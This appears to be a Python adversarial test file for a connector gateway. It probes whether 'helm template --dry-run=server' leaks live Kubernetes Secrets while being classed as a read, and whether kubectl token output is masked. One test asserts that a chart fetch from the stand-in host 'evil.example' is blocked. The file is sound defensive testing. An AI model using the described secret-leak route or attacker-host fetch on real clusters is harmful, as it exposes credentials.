"""Round 21c: a promises-only attack on the connectors (exec, http, MCP) and masking.

Each finding is a strict xfail through a real door (`@finding`); attacks that held are
ordinary tests.
"""

from __future__ import annotations

import base64
from collections.abc import AsyncIterator
from pathlib import Path

import httpx
import pytest

from tests.adversarial.harness import finding
from tests.adversarial.test_findings_round3 import cluster, kube, needs_kubectl, run_kubectl
from tests.conftest import Harness
from tests.connectors import kube_standin
from tests.connectors.support import harness_with

__all__ = ["cluster", "kube"]  # fixtures shared with round 3

# ── helm: a template rendered against the live cluster ─────────────────────────
RECORDER = """#!/bin/sh
printf '%s\\n' "$@" >> "$RECORD"
"""


@pytest.fixture
async def helm(tmp_path: Path) -> AsyncIterator[Harness]:
    """The REST door over an exec connection whose `helm` only records its argv."""
    program = tmp_path / "bin" / "helm"
    program.parent.mkdir()
    program.write_text(RECORDER)
    program.chmod(0o755)
    work = tmp_path / "work"
    work.mkdir(exist_ok=True)
    settings = {
        "type": "exec",
        "programs": [str(program)],
        "working_dir": str(work),
        "env": {"RECORD": str(tmp_path / "ran"), "HOME": str(tmp_path)},
        "timeout_seconds": 20,
        "rule_sets": ["helm"],
    }
    h = await harness_with(tmp_path, {"deploy": settings})
    try:
        yield h
    finally:
        await h.client.aclose()
        await h.gateway.close()


async def _run(h: Harness, connection: str, argv: list[str]) -> httpx.Response:
    body = {"connection": connection, "argv": argv}
    return await h.client.post("/v1/actions", headers=h.auth("claims-bot"), json=body)


@finding(1, "helm template --dry-run=server renders with live lookups (Secrets) as a read")
@pytest.mark.parametrize(
    "argv",
    [
        ["template", "db", "bitnami/postgresql", "--dry-run=server"],
        ["template", "db", "./chart", "--dry-run=server", "-s", "templates/secrets.yaml"],
    ],
)
async def test_helm_template_against_the_cluster_is_not_a_read(
    helm: Harness, tmp_path: Path, argv: list[str]
) -> None:
    """docs/exec.md: helm `get values/manifest` are `export` because rendered manifests
    carry the release's Secrets; `template` is a read because it renders offline. Since
    helm 3.13, `template --dry-run=server` connects to the cluster with the gateway's
    credentials and lets the chart's `lookup` read live objects: charts that keep a
    generated password stable (bitnami's `common.secrets.passwords.manage`, used by
    postgresql, redis, mariadb, …) look up the existing Secret and render its value
    into the manifest they print. `--dry-run` is on `template`'s allow-list with any
    value, so this runs at once as a read under the demo policy. The masker is no
    second line here: fed a rendered Secret, it masks values under labels it knows
    (`password:`, `OTP_SECRET:`) but returns `rabbitmq-erlang-cookie`,
    `mongodb-replica-set-key`, `airflow-fernet-key`, `.dockerconfigjson`, `tls.key` and
    htpasswd data as they are (base64 is not encryption)."""
    response = await _run(helm, "deploy", ["helm", *argv])
    ran = tmp_path / "ran"
    assert response.status_code != 200 and not ran.exists(), (
        f"ran as a read ({ran.read_text() if ran.exists() else ''!r}): {response.text[:300]}"
    )


async def test_held_helm_template_offline_is_a_read(helm: Harness, tmp_path: Path) -> None:
    offline = await _run(helm, "deploy", ["helm", "template", "db", "./chart", "--dry-run"])
    assert offline.status_code == 200, offline.text
    fetched = await _run(helm, "deploy", ["helm", "template", "db", "oci://evil.example/c"])
    assert fetched.status_code == 403, fetched.text


# ── kubectl: describe prints a service account's token ─────────────────────────
SA_TOKEN = "eyJhbGciOiJSUzI1NiJ9.c2EtYWRtaW4tdG9rZW4tcm91bmQyMWM.c2lnbmF0dXJlLTIxYw"
_TOKEN_SECRET = {
    "kind": "Secret",
    "apiVersion": "v1",
    "metadata": {
        "name": "admin-token",
        "namespace": "default",
        "annotations": {"kubernetes.io/service-account.name": "cluster-admin-sa"},
    },
    "type": "kubernetes.io/service-account-token",
    "data": {
        "token": base64.b64encode(SA_TOKEN.encode()).decode(),
        "namespace": base64.b64encode(b"default").decode(),
    },
}


@pytest.fixture
def token_secret(monkeypatch: pytest.MonkeyPatch) -> None:
    """The stand-in API server also holds a long-lived service-account token Secret."""
    path = "/api/v1/namespaces/default/secrets/admin-token"
    monkeypatch.setitem(kube_standin._ANSWERS, path, _TOKEN_SECRET)
    listed = {"kind": "SecretList", "apiVersion": "v1", "metadata": {}, "items": [_TOKEN_SECRET]}
    monkeypatch.setitem(kube_standin._ANSWERS, "/api/v1/namespaces/default/secrets", listed)


@needs_kubectl
@pytest.mark.parametrize(
    "argv", [["describe", "secret/admin-token"], ["describe", "secrets"]], ids=["one", "all"]
)
async def test_held_a_described_token_secret_is_masked(
    kube: Harness, cluster: kube_standin.KubeStandIn, token_secret: None, argv: list[str]
) -> None:
    """kubectl's Secret describer prints every key as a byte count except the `token`
    of a `kubernetes.io/service-account-token` Secret, which it prints in clear, and
    `describe` is a read. Held: such tokens are JWTs, and the masker's secret detector
    masks the token before it leaves."""
    response = await run_kubectl(kube, *argv)
    assert [p for p, _ in cluster.requests if "admin-token" in p or p.endswith("secrets")]
    assert response.status_code == 200 and SA_TOKEN not in response.text, response.text[-400:]
